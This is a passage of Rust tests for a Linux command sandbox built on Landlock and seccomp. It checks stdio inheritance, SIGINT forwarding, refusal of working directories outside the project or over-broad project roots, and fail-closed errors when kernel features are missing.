fn run_bash_inherits_stdio() {
    let fx = Fixture::new();
    let out = rerun_self(
        "inherited_stdio_helper",
        ("SHELLGATE_SANDBOX_TEST_PROJECT", fx.project.path()),
        b"hello\n",
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(3),
        "stdout:\n{stdout}\nstderr:\n{stderr}"
    );
    assert!(stdout.contains("got:hello\n"), "{stdout}");
    assert!(stderr.contains("err:hello\n"), "{stderr}");
}

/// Helper for `sigint_is_forwarded_to_the_command`: runs `sleep` in the
/// sandbox on another thread, waits (without sleeping) until the command has
/// started and the forwarding handler is installed, then sends SIGINT to this
/// process and exits with the command's code.
#[test]
fn signal_forwarding_helper() {
    let Some(project) = std::env::var_os("SHELLGATE_SANDBOX_SIGNAL_PROJECT") else {
        return;
    };
    let project = PathBuf::from(project);
    let started = project.join("started");
    let runner = {
        let project = project.clone();
        std::thread::spawn(move || {
            run_bash(
                &SandboxConfig::new(&project),
                "echo $$ > started; exec sleep 1000",
                &project,
            )
        })
    };
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        // SAFETY: query-only sigaction into a zeroed struct.
        let handled = unsafe {
            let mut current: libc::sigaction = std::mem::zeroed();
            libc::sigaction(libc::SIGINT, std::ptr::null(), &mut current);
            current.sa_sigaction != libc::SIG_DFL
        };
        if handled && started.exists() {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "command never started"
        );
        std::thread::yield_now();
    }
    // SAFETY: sends SIGINT to ourselves; the sandbox's handler forwards it.
    unsafe { libc::kill(libc::getpid(), libc::SIGINT) };
    let status = runner.join().unwrap().unwrap();
    std::process::exit(exit_code(&status));
}

#[test]
fn sigint_is_forwarded_to_the_command() {
    let fx = Fixture::new();
    let out = rerun_self(
        "signal_forwarding_helper",
        ("SHELLGATE_SANDBOX_SIGNAL_PROJECT", fx.project.path()),
        b"",
    );
    assert_eq!(
        out.status.code(),
        Some(130),
        "stdout:\n{}\nstderr:\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn cwd_outside_project_is_an_error() {
    let fx = Fixture::new();
    let err = run_bash(&fx.config(), "true", fx.outside.path()).unwrap_err();
    assert!(
        matches!(err, SandboxError::CwdOutsideProject { .. }),
        "{err}"
    );
    assert!(
        err.to_string().contains("outside the project root"),
        "{err}"
    );

    // A subdirectory of the project is fine.
    fs::create_dir(fx.project.path().join("sub")).unwrap();
    let status = run_bash(
        &fx.config(),
        "test \"$(basename \"$PWD\")\" = sub",
        &fx.project.path().join("sub"),
    )
    .unwrap();
    assert!(status.success());
}

#[test]
fn too_broad_project_roots_are_refused() {
    let fx = Fixture::new();
    let err = run_bash(&SandboxConfig::new("/"), "true", Path::new("/")).unwrap_err();
    assert!(
        matches!(err, SandboxError::ProjectRootTooBroad { .. }),
        "{err}"
    );
    let missing = fx.outside.path().join("missing");
    let err = run_bash(&SandboxConfig::new(&missing), "true", &missing).unwrap_err();
    assert!(matches!(err, SandboxError::ProjectRoot { .. }), "{err}");
}

#[test]
fn probe_reports_landlock_on_this_machine() {
    let caps = probe();
    eprintln!("{caps:?}");
    assert!(caps.landlock_abi.is_some_and(|abi| abi >= 1), "{caps:?}");
    assert!(caps.seccomp && caps.no_new_privs, "{caps:?}");
    caps.check().unwrap();
}

#[test]
fn missing_kernel_features_fail_closed_with_advice() {
    let base = probe();
    let no_landlock = Capabilities {
        landlock_abi: None,
        landlock_unavailable: Some(shellgate_sandbox::LandlockUnavailable::Disabled),
        ..base.clone()
    };
    let err = no_landlock.check().unwrap_err();
    assert!(matches!(err, SandboxError::LandlockUnavailable { .. }));
    let msg = err.to_string();
    assert!(msg.contains("refuses") && msg.contains("lsm="), "{msg}");

    let no_seccomp = Capabilities {
        seccomp: false,
        ..base.clone()
    };
    let err = no_seccomp.check().unwrap_err();
    assert!(matches!(err, SandboxError::SeccompUnavailable { .. }));
    assert!(err.to_string().contains("CONFIG_SECCOMP_FILTER"), "{err}");

    let no_reaper = Capabilities {
        process_children: false,
        ..base
    };
    let err = no_reaper.check().unwrap_err();
    assert!(matches!(err, SandboxError::ReaperUnavailable));
    assert!(err.to_string().contains("CONFIG_PROC_CHILDREN"), "{err}");
}
